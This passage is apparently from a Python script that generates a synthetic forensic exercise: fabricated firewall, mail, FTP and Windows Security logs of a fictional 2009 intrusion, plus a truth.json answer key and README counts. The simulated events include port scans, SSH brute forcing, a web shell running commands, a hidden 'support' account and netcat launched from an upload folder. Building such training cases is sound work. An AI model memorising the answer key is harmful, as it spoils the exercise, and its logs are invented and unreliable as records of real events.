               f"{dice.pick([80, 139, 445])}, flags: SYN, seq:{dice.below(2**32)} ack:0, win:16384, tcplen:0")
    t = utc("2009-11-17 01:12:20")
    for n, port in enumerate((21, 22, 23, 25, 53, 80, 110, 135, 139, 143, 443, 445, 1433, 3306, 3389, 5900, 8080)):
        row(t, f"IPS: Alert, severity: Medium, Rule ID: 1:{1000 + n} Port scan, proto:TCP, ip/port:{INTRUDER}:"
               f"{dice.between(40000, 60000)} -> 203.0.113.10:{port}")
        t += timedelta(seconds=dice.between(4, 20))
    row(utc("2009-11-17 02:58:12"), f"FTP: Bounce attack attempt: client: {INTRUDER}, server: {WEB}, command: PORT "
                                    "10,20,0,12,0,139")
    row(utc("2009-11-17 03:08:09"), "IPS: Packet drop, severity: High, Rule ID: 1:2001 Command shell banner, "
                                    f"proto:TCP, ip/port:{WEB}:3127 -> {INTRUDER}:443")
    for n in range(4):
        row(utc("2009-11-17 04:02:08") + timedelta(seconds=7 * n), f"Authentication: WebAdmin: Client: {WEB}: Invalid "
                                                                   "password for user admin")
    row(utc("2009-11-18 06:09:31"), "Engine: Shutdown.")
    row(utc("2009-11-18 06:12:02"), "Engine: Startup.")
    log.in_order()
    return log


def mail_log(dice):
    """A mail server's syslog with full dates, as rsyslog writes them."""
    log = Log("mail/messages.log", "syslog", newline="\n")

    def row(t, program, text):
        log.add(t, f"{t.astimezone(LOCAL):%Y-%m-%dT%H:%M:%S}+01:00 mx01 {program}: {text}",
                kind="auth.failure" if text.startswith("Failed password") else None)

    for _ in range(420):
        t = utc("2009-11-16 04:00:00") + timedelta(seconds=dice.below(56 * 3600))
        queue = f"{dice.word():016X}"[:10]
        name = dice.pick(STAFF)[0]
        number, relay = dice.between(2000, 9000), dice.between(1, 9)
        program, text = dice.pick([
            (f"postfix/smtpd[{number}]", f"connect from mail.example.org[192.0.2.{relay}]"),
            ("postfix/qmgr[1844]", f"{queue}: from=<{name}@halden.example>, size={number * 7}, nrcpt=1 (queue active)"),
            (f"postfix/smtp[{number}]", f"{queue}: to=<order@example.com>, "
                                        "relay=mail.example.com[198.51.100.25]:25, status=sent"),
            (f"CRON[{number}]", "(root) CMD (/usr/lib/sa/sa1 1 1)")])
        row(t, program, text)
    t = utc("2009-11-17 01:21:04")
    for n in range(60):
        user = dice.pick(["root", "admin", "test", "oracle", "mail"])
        invalid = "" if user in ("root", "mail") else "invalid user "
        row(t, f"sshd[{20311 + n}]", f"Failed password for {invalid}{user} from {INTRUDER} "
                                     f"port {dice.between(33000, 61000)} ssh2")
        t += timedelta(seconds=dice.between(1, 4))
    log.in_order()
    return log


# --- the intranet server's Security log, saved as text by Event Viewer: Windows Server 2003, local time --------------

INETINFO, W3WP = "C:\\WINDOWS\\system32\\inetsrv\\inetinfo.exe", "C:\\WINDOWS\\system32\\inetsrv\\w3wp.exe"
SHELL, NETCAT = "C:\\WINDOWS\\system32\\cmd.exe", "D:\\inetpub\\ftproot\\upload\\nc.exe"
SYSTEM32 = "C:\\WINDOWS\\system32\\"


class Security:
    """Rows as "Save As, text (tab delimited)" has them: the description in one line, blanks for its line ends."""

    MACHINE = ("INTRA01$", "HALDEN", "(0x0,0x3E7)")
    ANONYMOUS = ("IUSR_INTRA01", "INTRA01", "(0x0,0x1A5C3)")

    def __init__(self, log, dice):
        self.log, self.dice, self.next_logon = log, dice, 0x2B000

    def row(self, t, event, category, user, text, kind, good=True):
        local = t.astimezone(LOCAL)
        self.log.add(t, f"{local.day}.{local.month}.{local.year}\t{local.hour}:{local:%M:%S}\tSecurity\t"
                        f"{'Success' if good else 'Failure'} Audit\t{category}\t{event}\t{user}\tINTRA01\t{text} ",
                     kind=kind)

    @staticmethod
    def who(account):
        return f"User Name:\t{account[0]}  Domain:\t\t{account[1]}  Logon ID:\t\t{account[2]}"

    @staticmethod
    def header(account):
        return "NT AUTHORITY\\SYSTEM" if account == Security.MACHINE else f"{account[1]}\\{account[0]}"

    def start(self, t, pid, program, creator, account):
        self.row(t, 592, "Detailed Tracking", self.header(account),
                 f"A new process has been created:  New Process ID:\t{pid}  Image File Name:\t{program}  "
                 f"Creator Process ID:\t{creator}  {self.who(account)}", "process.start")

    def token(self, t, pid, program, assigner, account):
        by, new = self.MACHINE, account
        self.row(t, 600, "Detailed Tracking", "NT AUTHORITY\\SYSTEM",
                 "A process was assigned a primary token.  Assigning Process Information:  "
                 f"Process ID:\t{assigner}  Image File Name:\t{W3WP}  Primary User Name:\t{by[0]}  "
                 f"Primary Domain:\t{by[1]}  Primary Logon ID:\t{by[2]}  New Process Information:  "
                 f"Process ID:\t{pid}  Image File Name:\t{program}  Target User Name:\t{new[0]}  "
                 f"Target Domain:\t{new[1]}  Target Logon ID:\t{new[2]}", "process.token")

    def end(self, t, pid, program, account):
        self.row(t, 593, "Detailed Tracking", self.header(account),
                 f"A process has exited:  Process ID:\t{pid}  Image File Name:\t{program}  {self.who(account)}",
                 "process.end")

    def logon(self, t, account, number, process, package, address, stay):
        self.next_logon += self.dice.between(40, 4000)
        logon_id = f"(0x0,0x{self.next_logon:X})"
        header, place = f"HALDEN\\{account}", f"Workstation Name:\t{address[0]}"
        event = 540 if number == 3 else 528
        name = f"User Name:\t{account}  Domain:\t\tHALDEN  Logon ID:\t\t{logon_id}"
        self.row(t, event, "Logon/Logoff", header,
                 f"Successful {'Network ' if number == 3 else ''}Logon:  {name}  Logon Type:\t{number}  "
                 f"Logon Process:\t{process}  Authentication Package:\t{package}  {place}  Logon GUID:\t-  "
                 f"Caller User Name:\t-  Caller Domain:\t-  Caller Logon ID:\t-  Caller Process ID: -  "
                 f"Transited Services: -  Source Network Address:\t{address[1]}  Source Port:\t0", "logon")
        if stay:
            self.row(t + stay, 538, "Logon/Logoff", header, f"User Logoff:  {name}  Logon Type:\t{number}", "logoff")

    def refused(self, t, account):
        self.row(t, 529, "Logon/Logoff", "NT AUTHORITY\\SYSTEM",
                 "Logon Failure:  Reason:\t\tUnknown user name or bad password  "
                 f"User Name:\t{account}  Domain:\t\tINTRA01  Logon Type:\t8  Logon Process:\tIIS  Authentication Package:\tMICROSOFT_AUTHENTICATION_PACKAGE_V1_0  "
                 f"Workstation Name:\tINTRA01  Caller User Name:\tINTRA01$  Caller Domain:\tHALDEN  "
                 "Caller Logon ID:\t(0x0,0x3E7)  Caller Process ID:\t1212  Transited Services:\t-  "
                 "Source Network Address:\t-  Source Port:\t-", "logon", good=False)


def windows_boot(s, t):
    """What runs from the start: never ended, and rightly so."""
    s.row(t, 512, "System Event", "NT AUTHORITY\\SYSTEM", "Windows is starting up.", "service.start")
    t += timedelta(seconds=3)
    for pid, program, creator in ((396, SYSTEM32 + "services.exe", 348), (408, SYSTEM32 + "lsass.exe", 348),
                                  (640, SYSTEM32 + "svchost.exe", 396), (1212, INETINFO, 396), (2076, W3WP, 640)):
        s.start(t, pid, program, creator, s.MACHINE)
        t += timedelta(seconds=2)


def windows_shell(s, calls):
    """What help.asp runs, by the calls of it in the web log: each command in a cmd.exe of its own. The worker process
    makes it under its own account; then it is given the anonymous web account's token."""
    pid = 2804
    for t, command in calls:
        tool = {"whoami": "whoami.exe", "ipconfig": "ipconfig.exe", "net": "net.exe", "netstat": "netstat.exe",
                "tasklist": "tasklist.exe"}.get(command.split("+")[0])
        s.start(t, pid, SHELL, 2076, s.MACHINE)
        s.token(t, pid, SHELL, 2076, s.ANONYMOUS)
        if tool:
            s.start(t, pid + 8, SYSTEM32 + tool, pid, s.ANONYMOUS)
            s.end(t + timedelta(seconds=1), pid + 8, SYSTEM32 + tool, s.ANONYMOUS)
        s.end(t + timedelta(seconds=1), pid, SHELL, s.ANONYMOUS)
        if "support" in command and "user" in command.split("+"):
            s.row(t + timedelta(seconds=1), 624, "Account Management", s.header(s.ANONYMOUS),
                  "User Account Created:  New Account Name:\tsupport  New Domain:\tINTRA01  New Account ID:\t"
                  "S-1-5-21-1482476501-413027322-839522115-1031  Caller User Name:\tIUSR_INTRA01  "
                  "Caller Domain:\tINTRA01  Caller Logon ID:\t(0x0,0x1A5C3)  Privileges\t\t-", None)
        pid += 12
    t = calls[-1][0] + timedelta(seconds=31)
    s.start(t, pid, SHELL, 2076, s.MACHINE)
    s.token(t, pid, SHELL, 2076, s.ANONYMOUS)
    s.start(t + timedelta(seconds=1), pid + 8, NETCAT, pid, s.ANONYMOUS)
    s.end(t + timedelta(seconds=30), pid, SHELL, s.ANONYMOUS)


def windows_log(logs):
    dice = Dice(600)  # of its own, so that the other logs stay as they are
    log = Log("windows/intra01_security.txt", "winevent-text", zone="Europe/Berlin")
    s = Security(log, dice)
    windows_boot(s, utc("2009-11-16 04:58:20"))
    for day in ("16", "17", "18"):
        for name, client, _ in STAFF:
            if name == "h.lund" and day == "18":
                continue
            t = utc(f"2009-11-{day} 06:30:00") + timedelta(seconds=dice.below(5400))
            s.logon(t, name, 3, "Kerberos", "Kerberos", ("", client), timedelta(seconds=dice.between(20, 900)))
    rows = {found.path: found.rows for found in logs}
    for t, _, what, text, facts in rows["ftp/ex091117.log"]:
        if what == "event" and INTRUDER in text and facts[2] == "failed":
            s.refused(t, "Administrator")
        elif what == "event" and INTRUDER in text and facts[2] == "succeeded":
            s.logon(t, "Administrator", 8, "IIS", "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0", ("INTRA01", "-"),
                    utc("2009-11-17 03:41:30") - t)
    windows_shell(s, [(t, text.split("c=")[1].split(" ")[0]) for t, _, what, text, _ in rows["web/ex091117.log"]
                      if what == "event" and "/upload/help.asp c=" in text])
    # The machine went down at 01:09 without a word, and nc.exe with it.
    windows_boot(s, utc("2009-11-18 06:09:40"))
    log.in_order()
    return log


# --- all of it ---------------------------------------------------------------------------------------------------

def build():
    """Files by path below sample-case/, and the truth about them."""
    dice = Dice(20091117)
    logs = web_logs(dice) + [personnel_log(dice)] + ftp_logs(dice) + ftp7_logs(dice)
    logs += [native_log(dice), proxy_log(dice), firewall_log(dice), mail_log(dice)]
    logs.append(windows_log(logs))
    files = {}
    for log in logs:
        data = log.bytes()
        if log.path.endswith(".log") and log.path.startswith("ftp/ex091118"):
            data = data[:-len(log.newline)]  # the copy was taken in mid-line
        if log.path.endswith(".gz"):
            packed = io.BytesIO()
            with gzip.GzipFile(filename="", mode="wb", fileobj=packed, mtime=0) as out:
                out.write(data)
            data = packed.getvalue()
        elif log.member:
            packed = io.BytesIO()
            with zipfile.ZipFile(packed, "w") as out:
                entry = zipfile.ZipInfo(log.member, (2009, 11, 14, 0, 5, 0))
                entry.compress_type, entry.external_attr, entry.create_system = zipfile.ZIP_DEFLATED, 0o644 << 16, 3
                out.writestr(entry, data)
            data = packed.getvalue()
        files["logs/" + log.path] = data
    rows = sorted((log.truth() for log in logs), key=lambda r: r["path"])
    total = {"files": len(rows), "events": sum(r["events"] for r in rows), "first": min(r["first"] for r in rows),
             "last": max(r["last"] for r in rows),
             "lines": {k: sum(r["lines"][k] for r in rows) for k in rows[0]["lines"]},
             "logins": {k: sum(r.get("logins", {}).get(k, 0) for r in rows) for k in ("succeeded", "failed")}}
    status, kind = Counter(), Counter()
    for r in rows:
        status.update(r["status"])
        kind.update(r["kind"])
    total["status"], total["kind"] = dict(sorted(status.items())), dict(sorted(kind.items()))
    truth = {"zone": "Europe/Berlin", "zone_note": "for sources whose lines do not say theirs; W3C logs are in UTC",
             "total": total, "files": rows}
    return files, json.dumps(truth, indent=1) + "\n"


def table(truth):
    """The counts as README.md shows them."""
    out = ["| source | format | encoding | lines | events | rejected | FTP logins ok / failed |",
           "|---|---|---|---:|---:|---:|---:|"]
    for f in json.loads(truth)["files"]:
        name = f["path"] + (" › " + f["member"] if f["member"] else "")
        logins = f"{f['logins']['succeeded']} / {f['logins']['failed']}" if "logins" in f else ""
        out.append(f"| `{name}` | {f['format']} | {f['encoding']} | {f['lines']['total']} | {f['events']} | "
                   f"{f['lines']['rejected']} | {logins} |")
    t = json.loads(truth)["total"]
    out.append(f"| all | | | {t['lines']['total']} | {t['events']} | {t['lines']['rejected']} | "
               f"{t['logins']['succeeded']} / {t['logins']['failed']} |")
    return "\n".join(out) + "\n"


def readme(truth):
    """README.md with its table of counts made anew; the rest is written by hand."""
    begin, end = "<!-- counts -->\n", "<!-- /counts -->"
    text = (CASE / "README.md").read_text(encoding="utf-8")
    return text[:text.index(begin) + len(begin)] + table(truth) + text[text.index(end):]


def content(name, data):
    if name.endswith(".gz"):
        return gzip.decompress(data)
    if name.endswith(".zip"):
        with zipfile.ZipFile(io.BytesIO(data)) as z:
            return {n: z.read(n) for n in z.namelist()}
    return data


def main():
    files, truth = build()
    if sys.argv[1:] == ["--check"]:
        bad = [n for n, d in files.items()
               if not (CASE / n).is_file() or content(n, (CASE / n).read_bytes()) != content(n, d)]
        there = {str(p.relative_to(CASE)) for p in (CASE / "logs").rglob("*") if p.is_file()}
        bad += sorted(there - set(files))
        if not (HERE / "truth.json").is_file() or (HERE / "truth.json").read_text() != truth:
            bad.append("truth.json")
        if (CASE / "README.md").read_text(encoding="utf-8") != readme(truth):
            bad.append("README.md")
        for name in bad:
            print("differs:", name)
        return 1 if bad else 0
    if sys.argv[1:]:
        print(__doc__)
        return 2
    for name, data in files.items():
        (CASE / name).parent.mkdir(parents=True, exist_ok=True)
        (CASE / name).write_bytes(data)
    (HERE / "truth.json").write_text(truth)
    (CASE / "README.md").write_text(readme(truth), encoding="utf-8")
    return 0


if __name__ == "__main__":
    sys.exit(main())
